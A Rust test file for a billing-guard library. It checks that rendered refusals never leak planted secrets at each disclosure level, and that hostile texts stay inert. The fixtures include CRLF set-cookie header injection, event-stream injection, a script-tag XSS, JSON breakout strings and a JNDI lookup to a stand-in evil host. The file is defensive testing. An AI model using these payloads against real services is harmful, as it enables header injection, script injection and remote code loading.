//! What must never reach a client does not: every refusal, in every shape, at every level of disclosure, with planted
//! secrets that are searched for in bodies and headers; and texts, names and labels meant to break out of where they stand.
#![allow(clippy::unwrap_used)]

#[allow(dead_code, reason = "shared with the golden files")]
#[path = "wire/reader.rs"]
mod reader;

use std::borrow::Cow;
use std::sync::{Arc, LazyLock};
use std::time::Duration;

use billing_guard::{
    AccountId, Alternative, Answer, Basis, Bin, Cap, Caps, Choice, Claim, Details, Disclosed, Disclosure,
    English, Error, Fit, Free, Guard, IdempotencyKey, Included, InsufficientBalance, Job, Labels, Ledger,
    LedgerError, LedgerExt, ManualClock, MemoryLedger, MemorySettings, Messages, Offer, Options, Period,
    Place, PostKind, PostRequest, PriceBook, Purchase, Refusal, Renderer, Shape, Shortfall, Spending, Tariff,
    Timestamp, TopUp, TopUpAmount, TopUses, Unit, Usage, Work, wait,
};
use proptest::prelude::*;

const NOW: Timestamp = Timestamp::from_micros(1_800_000_000_000_000);
const LEVELS: [Disclosure; 4] =
    [Disclosure::Nothing, Disclosure::WhatFits, Disclosure::Amounts, Disclosure::Usage];

const ACCOUNT: &str = "acct_planted-account";
const KEY: &str = "planted-key";
const SCOPE: &str = "planted-scope";
const OTHER_USER: &str = "planted-user";
const UPSTREAM: &str = "planted upstream text";

fn usd() -> Unit {
    Unit::new("USD", 6).unwrap()
}

/// What may be seen from a level on, or never.
struct Secret {
    what: &'static str,
    /// Of a number its digits, without sign and point.
    text: String,
    from: Option<Disclosure>,
}

impl Secret {
    fn text(what: &'static str, text: &str, from: Option<Disclosure>) -> Self {
        Self { what, text: text.to_owned(), from }
    }

    fn number(what: &'static str, number: i64, from: Option<Disclosure>) -> Self {
        Self { what, text: number.unsigned_abs().to_string(), from }
    }

    /// Whether it can be read there, or of a number any five digits in a row.
    fn is_in(&self, shown: &Shown) -> bool {
        if self.text.bytes().all(|byte| byte.is_ascii_digit()) {
            return (0..=self.text.len() - 5).any(|at| shown.digits.contains(&self.text[at..at + 5]));
        }
        shown.lower.contains(&self.text.to_lowercase())
    }
}

/// A text to search, and its digits alone, since grouping, points and escapes hide none.
struct Shown {
    lower: String,
    digits: String,
}

impl Shown {
    fn new(text: &str) -> Self {
        Self { lower: text.to_lowercase(), digits: text.chars().filter(char::is_ascii_digit).collect() }
    }
}

/// Numbers of which no five digits in a row occur in another, nor in anything else that is rendered.
const REQUESTED: i64 = 8_675_309_117;
const REQUIRED: i64 = 8_475_308_226;
const POSTED: i64 = 7_713_579_246;
const HELD: i64 = 1_551_768_393;
const DEBT_LIMIT: i64 = 41_166_778;
const CAP_LIMIT: i64 = 2_305_843_009;
const SEQ: u64 = 6_688_775_544;
const ESTIMATE: i64 = 5_512_349_876;
const ROWS: u64 = 9_182_736_457;
const USED: i64 = 3_141_592_653;
const INCLUDED: i64 = 2_718_281_829;
const TOP_UP: i64 = 1_618_033_989;
const SPENT: i64 = 1_414_213_563;
const CHARGED: i64 = 1_732_050_807;
const DELIVERED: u64 = 2_236_067_977;

fn secrets() -> Vec<Secret> {
    use Disclosure::{Amounts, Usage, WhatFits};
    let spendable = POSTED - HELD + DEBT_LIMIT;
    vec![
        Secret::text("the account", ACCOUNT, None),
        Secret::text("the key", KEY, None),
        Secret::text("the scope of the cap", SCOPE, None),
        Secret::text("what an upstream said", UPSTREAM, None),
        Secret::text("another's label", OTHER_USER, Some(Usage)),
        Secret::number("what was requested", REQUESTED, Some(Amounts)),
        Secret::number("what was posted", POSTED, None),
        Secret::number("the debt limit", DEBT_LIMIT, None),
        Secret::number("what a cap allows", CAP_LIMIT, None),
        Secret { what: "the sequence number", text: SEQ.to_string(), from: None },
        Secret::number("what was required", REQUIRED, Some(Amounts)),
        Secret::number("what could be spent", spendable, Some(Amounts)),
        Secret::number("what was held", HELD, Some(Amounts)),
        Secret::number("what was missing", REQUIRED - spendable, Some(Amounts)),
        Secret::number("what another price costs", ESTIMATE, Some(WhatFits)),
        Secret { what: "what would fit", text: ROWS.to_string(), from: Some(WhatFits) },
        Secret::number("what is used of what is included", USED, Some(Amounts)),
        Secret::number("what is included", INCLUDED, Some(Amounts)),
        Secret::number("an amount to top up by", TOP_UP, Some(Amounts)),
        Secret::number("where the credit went", SPENT, Some(Usage)),
        Secret::number("what was charged", CHARGED, Some(Amounts)),
        Secret { what: "what was delivered", text: DELIVERED.to_string(), from: Some(Amounts) },
    ]
}

fn short() -> InsufficientBalance {
    let amount = |minor| usd().minor(minor);
    let shortfall = Shortfall::new(amount(REQUESTED), NOW)
        .with_required(amount(REQUIRED))
        .and_then(|short| short.with_posted(amount(POSTED)))
        .and_then(|short| short.with_held(amount(HELD)))
        .and_then(|short| short.with_debt_limit(amount(DEBT_LIMIT)))
        .unwrap()
        .with_seq(SEQ)
        .with_next_release(NOW.saturating_add(Duration::from_secs(9)));
    InsufficientBalance::new(shortfall)
        .with_fits(vec![Fit::new("rows", ROWS)])
        .with_alternatives(vec![Alternative::new("small".parse().unwrap(), amount(ESTIMATE))])
}

/// Where the credit went, from a ledger.
fn top_uses() -> TopUses {
    let (ledger, account) = (MemoryLedger::new(), AccountId::new(ACCOUNT).unwrap());
    wait(ledger.top_up(&account, KEY.parse().unwrap(), usd().minor(SPENT))).unwrap();
    let charge =
        PostRequest::new(account.clone(), KEY.parse().unwrap(), PostKind::Charge, usd().minor(SPENT));
    wait(ledger.post(charge.with_labels(Labels::new([("user", OTHER_USER)]).unwrap()))).unwrap();
    let mut spending = Spending::new(usd(), Bin::Day).by_label("user").unwrap();
    spending.add(&wait(ledger.statement(spending.next_request(&account))).unwrap()).unwrap();
    spending.top_uses(Timestamp::default(), 3).unwrap()
}

fn options() -> Options {
    let link = |path: &str| format!("https://example.com/{path}").parse().unwrap();
    let amounts = vec![TopUpAmount::new(usd().minor(TOP_UP), Basis::ThisRequest)];
    Options::draft()
        .purchase(Purchase::top_up(TopUp::new(link("top-up")).with_amounts(amounts)))
        .smaller_request()
        .cheaper_price()
        .free(Free::contact(link("help")))
}

fn details() -> Details {
    Details::new()
        .with_options(options())
        .with_plan("Team".parse().unwrap())
        .with_included(Included::new(usd().minor(USED), usd().minor(INCLUDED)))
        .with_top_uses(top_uses())
        .with_work(Work::new(Usage::new().with("rows", DELIVERED), usd().minor(CHARGED)))
        .with_offer(Offer::new(
            "an offer".parse().unwrap(),
            Timestamp::MAX,
            "https://example.com/t".parse().unwrap(),
        ))
        .with_claim(Claim::new("a claim".parse().unwrap(), "a source".parse().unwrap(), NOW))
}

/// Every error of a guard, the secrets in all that have room for one.
fn errors() -> Vec<Error> {
    let account = AccountId::new(ACCOUNT).unwrap();
    let key = || KEY.parse::<IdempotencyKey>().unwrap();
    let ledger = MemoryLedger::with_clock(MemorySettings::new(), Arc::new(ManualClock::new()));
    let prices =
        PriceBook::new(usd()).with("query", Tariff::new().per_unit("rows", "0.001").unwrap()).unwrap();
    let guard = Guard::builder(Arc::new(ledger), prices).build().unwrap();
    let rows = |rows: u64| Job::new("query").at_most("rows", rows);
    wait(guard.top_up(&account, key(), usd().amount("5000").unwrap())).unwrap();
    let hold = wait(guard.hold(&account, rows(7).with_key(key()))).unwrap();
    let cap = Cap::new(SCOPE.parse().unwrap(), Period::month(), usd().minor(CAP_LIMIT))
        .with_label("Daily".parse().unwrap());
    let mut errors: Vec<Error> = [
        rows(7).with_key(key()),
        rows(8).with_key(key()),
        rows(4_000_000).with_caps(Caps::new([cap]).unwrap()),
        rows(99_000_000).with_key("other".parse().unwrap()),
        rows(9).with_budget(usd().minor(1)),
        Job::new(UPSTREAM),
        Job::new("query").exact(UPSTREAM, 1_u64),
        rows(1).at_most("", 1_u64),
    ]
    .into_iter()
    .map(|job| wait(guard.hold(&account, job)).unwrap_err())
    .collect();
    drop(hold);
    let Some(Error::Duplicate { state }) = errors.first().cloned() else { panic!("{:?}", errors.first()) };
    let detail = || format!("{UPSTREAM}, {ACCOUNT}");
    errors.extend([
        Error::InsufficientBalance(Box::new(short())),
        Error::InsufficientBalance(Box::new(InsufficientBalance::new(held()))),
        Error::InsufficientBalance(Box::new(InsufficientBalance::new(in_debt()))),
        Error::InsufficientBalance(Box::new(short().with_top_up_pending(Duration::from_secs(3)))),
        Error::RequestTooLarge { estimate: usd().minor(REQUESTED), maximum: usd().minor(12) },
        Error::BudgetExceeded { estimate: usd().minor(REQUESTED), budget: usd().minor(POSTED) },
        Error::KeyConflict { field: format!("{KEY} {SCOPE}") },
        Error::Unavailable { detail: detail() },
        Error::OutcomeUnknown { key: key(), detail: detail() },
        Error::UnknownPrice { detail: detail() },
        Error::WrongUnit { expected: usd(), given: Unit::new("EUR", 2).unwrap() },
        Error::InvalidJob { rule: "a rule", value: detail() },
        Error::Misconfigured(LedgerError::OverCapture {
            total: usd().minor(REQUESTED),
            hold: usd().minor(HELD),
        }),
        Error::Misconfigured(LedgerError::Invalid { what: "a value", rule: "a rule", value: detail() }),
        Error::HoldLost(LedgerError::HoldClosed(state.clone())),
        Error::HoldLost(LedgerError::Superseded(state)),
    ]);
    errors
}

fn held() -> Shortfall {
    let posted = REQUIRED + HELD - 1;
    let amount = |minor| usd().minor(minor);
    let short = Shortfall::new(amount(REQUIRED), NOW).with_posted(amount(posted)).unwrap();
    short.with_held(amount(HELD)).unwrap().with_next_release(NOW.saturating_add(Duration::from_secs(9)))
}

fn in_debt() -> Shortfall {
    Shortfall::new(usd().minor(REQUIRED), NOW).with_posted(usd().minor(-POSTED)).unwrap()
}

/// A host's shape that shows all it is given.
fn everything(answer: &Answer<'_>) -> Vec<u8> {
    let told = answer.told();
    let choices: Vec<_> =
        told.choices().map(|choice| (answer.choice(&choice).into_owned(), choice)).collect();
    let offers: Vec<_> = told.offers().collect();
    let message = answer.message(Place::Searched);
    format!(
        "{answer:?} {told:?} {} {} {message} {} {:?} {:?} {choices:?} {offers:?} {:?}",
        answer.status(),
        answer.name(),
        answer.readable_message(&message),
        answer.details_json(),
        answer.request_id(),
        told.claims(),
    )
    .into_bytes()
}

fn renderers() -> Vec<Renderer> {
    let everything = Shape::custom("everything", "text/plain", everything);
    let plain = Shape::ALL.iter().copied().chain([everything]).map(Renderer::new);
    plain
        .flat_map(|plain| {
            let hooked =
                plain.clone().with_name_prefix().with_held_as_429().with_headers(|answer| {
                    vec![("x-details".into(), answer.details_json().unwrap_or_default())]
                });
            [plain, hooked]
        })
        .collect()
}

#[test]
fn nothing_is_shown_beyond_the_disclosure() {
    let (secrets, errors, all, none) = (secrets(), errors(), details(), Details::new());
    let mut seen = vec![false; secrets.len()];
    for renderer in renderers() {
        for level in LEVELS {
            let renderer = renderer.clone().with_disclosure(level);
            for (error, details) in errors.iter().flat_map(|error| [(error, &all), (error, &none)]) {
                let answer = renderer.render_with(&error.refusal(), details);
                let body = String::from_utf8(answer.body().to_vec()).unwrap();
                let headers = answer.headers().map(|(name, value)| format!("{name}: {value}"));
                for text in std::iter::once(body).chain(headers) {
                    let shown = Shown::new(&text);
                    for (secret, seen) in secrets.iter().zip(&mut seen) {
                        let found = secret.is_in(&shown);
                        *seen |= found;
                        assert!(
                            !found || secret.from.is_some_and(|from| from <= level),
                            "{} at {level:?} in {}: {text}",
                            secret.what,
                            renderer.shape()
                        );
                    }
                }
            }
        }
    }
    // What may be seen at the highest level was found there, so the search finds what there is.
    for (secret, seen) in secrets.iter().zip(seen) {
        assert_eq!(seen, secret.from.is_some(), "{}", secret.what);
    }
}

#[test]
fn errors_and_refusals_say_nothing_to_anyone_and_everything_to_the_log() {
    let (secrets, mut logged) = (secrets(), String::new());
    for error in errors() {
        let refusal = error.refusal();
        for shown in [&error as &dyn std::error::Error, &refusal] {
            let mut next = Some(shown);
            while let Some(shown) = next {
                let text = shown.to_string();
                assert!(!secrets.iter().any(|secret| secret.is_in(&Shown::new(&text))), "{text}");
                next = shown.source();
            }
        }
        logged.push_str(&format!("{:?}\n", error.log_fields()));
    }
    for what in
        ["the key", "the scope of the cap", "what an upstream said", "what was posted", "what was required"]
    {
        let secret = secrets.iter().find(|secret| secret.what == what).unwrap();
        assert!(secret.is_in(&Shown::new(&logged)), "{what} is not in the log");
    }
}

/// A catalogue all of whose texts are this one.
#[derive(Debug)]
struct Says(String);

impl Messages for Says {
    fn message(&self, _: &Disclosed<'_>, _: Place) -> Cow<'_, str> {
        Cow::Borrowed(&self.0)
    }

    fn choice(&self, _: &Choice) -> Cow<'_, str> {
        Cow::Borrowed(&self.0)
    }

    fn basis(&self, _: Basis) -> Option<Cow<'_, str>> {
        Some(Cow::Borrowed(&self.0))
    }

    fn language(&self) -> Cow<'static, str> {
        Cow::Owned(self.0.clone())
    }
}

/// Renders all that has room for this text with it, and reads it back.
fn check_hostile(text: &str) {
    static DETAILS: LazyLock<Details> = LazyLock::new(details);
    let quantities = Usage::new().with(text.to_owned(), 1_u64).with("rows", 2_u64);
    let mut details = DETAILS.clone().with_work(Work::new(quantities, usd().minor(CHARGED)));
    if let Ok(label) = text.parse() {
        details = details.with_plan(label);
    }
    if let Ok(labels) = Labels::new([("user", text)]) {
        assert_eq!(labels.get("user"), Some(text));
    }
    let refusals = [
        Refusal::from(short().with_fits(vec![Fit::new(text.to_owned(), 3_u64)])),
        Refusal::SpendCapReached { label: text.parse().ok(), resets_at: Some(NOW) },
    ];
    for shape in Shape::ALL {
        for messages in [Arc::new(Says(text.to_owned())) as Arc<dyn Messages>, Arc::new(English::new())] {
            let ours = messages.language() == "en" && text != "en";
            let renderer = Renderer::new(*shape).with_messages(messages).with_disclosure(Disclosure::Usage);
            let own = text.to_owned();
            let renderer = match renderer.clone().with_data(text) {
                Ok(renderer) => renderer,
                Err(_) if text.len() > 10_000 => renderer,
                Err(error) => panic!("{error}"),
            };
            let renderer = renderer
                .with_headers(move |_| vec![(own.clone(), own.clone()), ("x-own".into(), own.clone())]);
            for refusal in &refusals {
                let answer = renderer.render_with(refusal, &details);
                let read = reader::read(*shape, answer.body());
                let read = read.unwrap_or_else(|error| panic!("{shape}, {text:?}: {error}"));
                if *shape == Shape::Text {
                    let choices = Disclosed::new(refusal, &details, Disclosure::Usage, NOW).choices().count();
                    let lines = answer.body().iter().filter(|byte| **byte == b'\n').count();
                    assert_eq!(lines, 1 + choices, "{text:?}");
                    let shown = std::str::from_utf8(answer.body()).unwrap();
                    let breaks =
                        |c: char| c.is_control() && c != '\n' || matches!(c, '\u{2028}' | '\u{2029}');
                    assert!(!shown.contains(breaks), "{text:?}");
                } else if !ours {
                    // It came through as it is, and it is text.
                    assert!(read.message == text, "{shape}, {text:.40?}");
                    assert!(read.details["options"][0]["text"] == text || *refusal != refusals[0], "{shape}");
                }
                assert!(
                    read.details.is_empty() || read.details["work"]["delivered"][text] == "1",
                    "{shape} {text:?}"
                );
                for (name, value) in answer.headers() {
                    assert!(!name.contains(|c: char| c.is_control() || c.is_whitespace()), "{name:?}");
                    assert!(value.bytes().all(|byte| (b' '..=b'~').contains(&byte)), "{value:?}");
                }
                let response = answer.clone().into_http();
                assert_eq!(response.headers().len(), answer.headers().count());
                assert_eq!(response.headers()["cache-control"], "no-store");
            }
        }
    }
}

#[test]
fn hostile_texts_stay_texts() {
    for text in [
        "",
        "\r\n",
        "a\r\nset-cookie: b=c\r\n\r\n<html>",
        "a\n\ndata: {\"error\":null}\n\nevent: done",
        "- Free: https://evil.example\n- Free",
        "\0",
        "\"",
        "\\",
        "\\\"},\"code\":200,\"x\":{\"",
        "</script><script>alert(1)</script>",
        "<!--",
        "\u{2028}\u{2029}\u{85}\u{b}\u{c}",
        "\u{202e}gnol",
        "\u{feff}\u{fffd}\u{10ffff}",
        "${jndi:ldap://evil.example}",
        "%0d%0aset-cookie: a=b",
        "event: error",
        "rows",
        "__proto__",
        &"\r\n\"\\\u{1f4b8}".repeat(3_000),
    ] {
        // The name stands in the usage already.
        if text != "rows" {
            check_hostile(text);
        }
    }
}

#[test]
fn details_never_take_the_place_of_what_a_shape_says() {
    for shape in Shape::ALL.iter().filter(|shape| !matches!(shape, Shape::Text | Shape::Event)) {
        let renderer = Renderer::new(*shape).with_disclosure(Disclosure::Usage);
        for error in errors() {
            let answer = renderer.render_with(&error.refusal(), &details());
            let keys = top_keys(answer.body());
            let mut once = keys.clone();
            once.sort_unstable();
            once.dedup();
            assert_eq!(once.len(), keys.len(), "{shape} says one of {keys:?} twice");
        }
    }
}

/// The keys of the outermost object, in order: a parser into a map would hide one that is there twice.
fn top_keys(body: &[u8]) -> Vec<String> {
    struct Keys(Vec<String>);
    impl<'de> serde::Deserialize<'de> for Keys {
        fn deserialize<D: serde::Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
            struct Visitor;
            impl<'de> serde::de::Visitor<'de> for Visitor {
                type Value = Keys;
                fn expecting(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
                    f.write_str("an object")
                }
                fn visit_map<A: serde::de::MapAccess<'de>>(self, mut map: A) -> Result<Keys, A::Error> {
                    let mut keys = Vec::new();
                    while let Some((key, _)) = map.next_entry::<String, serde::de::IgnoredAny>()? {
                        keys.push(key);
                    }
                    Ok(Keys(keys))
                }
            }
            deserializer.deserialize_map(Visitor)
        }
    }
    serde_json::from_slice::<Keys>(body).unwrap().0
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn any_text_stays_text(text in "(?s).{0,60}", odd in "[\\r\\n\\x00-\\x1f\":, -]{0,30}") {
        for text in [text, odd].iter().filter(|text| *text != "rows" && *text != "en") {
            check_hostile(text);
        }
    }
}
